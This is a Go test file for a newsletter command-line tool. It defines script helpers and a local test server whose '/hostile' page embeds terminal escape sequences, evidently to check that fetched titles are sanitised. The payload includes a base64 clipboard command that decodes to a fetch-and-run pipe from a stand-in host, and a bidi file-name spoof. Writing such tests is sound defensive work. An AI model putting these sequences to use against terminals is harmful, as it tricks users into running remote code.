package cli_test

import (
	"context"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/rogpeppe/go-internal/testscript"

	"github.com/weekly-dev/weekly/internal/cli"
	"github.com/weekly-dev/weekly/internal/store"
)

func weeklyMain() {
	os.Exit(cli.Main(context.Background(), os.Args[1:], os.Stdin, os.Stdout, os.Stderr))
}

func TestMain(m *testing.M) {
	if os.Getenv("WEEKLY_RUN_MAIN") == "1" { // the test binary run as weekly
		weeklyMain()
	}
	testscript.Main(m, map[string]func(){"weekly": weeklyMain})
}

// TestScript runs the scripts in testdata/script against the real weekly
// command. Scripts may use:
//
//	serve          start a web server on 127.0.0.1 for the rest of the script
//	               and set $SERVER to its URL (see site for its pages)
//	expand FILE    replace $VARIABLES in FILE with their values
//	holdopen N     hold drafts/N.json open as the board does (its edit lock),
//	               until release or the end of the script
//	release        let go of the draft holdopen holds
//	undate FILE    take the Date header out of the email message in FILE
func TestScript(t *testing.T) {
	testscript.Run(t, testscript.Params{
		Dir:                 "testdata/script",
		RequireExplicitExec: true,
		Setup: func(env *testscript.Env) error {
			env.Setenv("WEEKLY_DIR", env.WorkDir+"/drafts")
			env.Setenv("NO_COLOR", "1")
			// Under -race every process would sleep a second on exit.
			env.Setenv("GORACE", "atexit_sleep_ms=0")
			env.Values["held"] = &held{}
			return nil
		},
		Cmds: map[string]func(*testscript.TestScript, bool, []string){
			"serve":    serveCmd,
			"expand":   expandCmd,
			"undate":   undateCmd,
			"holdopen": holdOpenCmd,
			"release":  releaseCmd,
			"card":     cardCmd,
		},
	})
}

// holdOpenCmd takes a draft's edit lock in the test process, as an open
// board holds it, so that the weekly commands the script runs see it open.
func holdOpenCmd(ts *testscript.TestScript, neg bool, args []string) {
	if neg || len(args) != 1 {
		ts.Fatalf("usage: holdopen N")
	}
	ed, err := store.OpenEditor(filepath.Join(ts.Getenv("WEEKLY_DIR"), args[0]+".json"), "weekly edit")
	ts.Check(err)
	ts.Value("held").(*held).ed = ed
	ts.Defer(ed.Close)
}

// held is the draft a script holds open.
type held struct{ ed *store.Editor }

func releaseCmd(ts *testscript.TestScript, neg bool, args []string) {
	if neg || len(args) != 0 {
		ts.Fatalf("usage: release")
	}
	h := ts.Value("held").(*held)
	if h.ed == nil {
		ts.Fatalf("release: nothing is held open")
	}
	h.ed.Close()
	h.ed = nil
}

func serveCmd(ts *testscript.TestScript, neg bool, args []string) {
	if neg || len(args) != 0 {
		ts.Fatalf("usage: serve")
	}
	srv := httptest.NewServer(site(ts.Getenv("WORK")))
	ts.Defer(srv.Close)
	ts.Setenv("SERVER", srv.URL)
}

func expandCmd(ts *testscript.TestScript, neg bool, args []string) {
	if neg || len(args) != 1 {
		ts.Fatalf("usage: expand FILE")
	}
	text := os.Expand(ts.ReadFile(args[0]), ts.Getenv)
	ts.Check(os.WriteFile(ts.MkAbs(args[0]), []byte(text), 0o644))
}

// undateCmd takes the Date header out of an email message, so that a sent
// message (dated when sent) compares with the eml export (dated on the
// issue's date).
func undateCmd(ts *testscript.TestScript, neg bool, args []string) {
	if neg || len(args) != 1 {
		ts.Fatalf("usage: undate FILE")
	}
	head, body, _ := strings.Cut(ts.ReadFile(args[0]), "\n\n")
	var kept []string
	for _, line := range strings.Split(head, "\n") {
		if !strings.HasPrefix(line, "Date: ") {
			kept = append(kept, line)
		}
	}
	ts.Check(os.WriteFile(ts.MkAbs(args[0]), []byte(strings.Join(kept, "\n")+"\n\n"+body), 0o644))
}

// site serves the pages the scripts fetch, hostile ones among them, and
// the script's own files under /files/.
func site(work string) http.Handler {
	mux := http.NewServeMux()
	html := func(contentType, body string) http.HandlerFunc {
		return func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Type", contentType)
			io.WriteString(w, body)
		}
	}
	mux.Handle("/files/", http.StripPrefix("/files/", http.FileServer(http.Dir(work))))
	mux.HandleFunc("/page", html("text/html; charset=utf-8",
		`<!doctype html><html><head><title>New Kubernetes &amp; you</title>
<meta property="og:description" content="What is new in Kubernetes 1.20, and what it means for you.">
</head><body><p>The post.</p></body></html>`))
	mux.HandleFunc("/other", html("text/html", `<title>Another post</title>`))
	// OSC 52 (set the clipboard), SGR, a raw 8-bit CSI and a bidi override.
	mux.HandleFunc("/hostile", html("text/html; charset=utf-8",
		"<html><head><title>Pwned\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 \x1b[1;31mred\x1b[0m \x9b2J invoice\u202egpj.exe</title>"+
			"<meta property=\"og:description\" content=\"&#x1b;]0;title&#7;Described\u202e\"></head>"))
	mux.HandleFunc("/latin1", html("text/html; charset=ISO-8859-1", "<title>Caf\xe9 cr\xe8me br\xfbl\xe9e</title>"))
	mux.HandleFunc("/latin1-meta", html("text/html", `<meta http-equiv="Content-Type" content="text/html; charset=iso-8859-1"><title>Na`+"\xef"+`ve</title>`))
	mux.HandleFunc("/paper.pdf", html("application/pdf", "%PDF-1.4"))
	mux.HandleFunc("/huge", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, "<html><head><title>Huge page</title><!--")
		chunk := strings.Repeat("x", 64<<10)
		for n := 0; n < 64<<20; n += len(chunk) {
			if _, err := io.WriteString(w, chunk); err != nil {
				return // the client hung up: the page was cut off
			}
		}
		io.WriteString(w, "--></head>")
	})
	mux.HandleFunc("/redirect/", func(w http.ResponseWriter, r *http.Request) {
		var n int
		fmt.Sscanf(r.URL.Path, "/redirect/%d", &n)
		if n <= 0 {
			http.Redirect(w, r, "/page", http.StatusFound)
			return
		}
		http.Redirect(w, r, fmt.Sprintf("/redirect/%d", n-1), http.StatusFound)
	})
	mux.HandleFunc("/no-head", func(w http.ResponseWriter, r *http.Request) {
		if r.Method == http.MethodHead {
			w.WriteHeader(http.StatusMethodNotAllowed)
			return
		}
		io.WriteString(w, "<title>GET only</title>")
	})
	return mux
}
